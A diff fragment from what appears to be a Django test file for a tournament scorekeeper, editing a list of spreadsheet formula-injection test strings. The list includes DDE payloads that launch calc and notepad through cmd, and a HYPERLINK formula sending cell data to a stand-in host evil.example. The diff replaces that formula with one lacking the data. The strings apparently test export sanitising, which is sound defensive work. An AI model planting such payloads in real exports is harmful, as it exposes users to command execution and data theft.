@@ -28,7 +28,7 @@ from tests.scorekeeper.tournament_factories import make_tournament
 pytestmark = pytest.mark.django_db
 
 HOSTILE = (
-    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    '=HYPERLINK("https://e.vil/","Click")',
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)",
     "-2+3+cmd|' /C notepad'!A0",
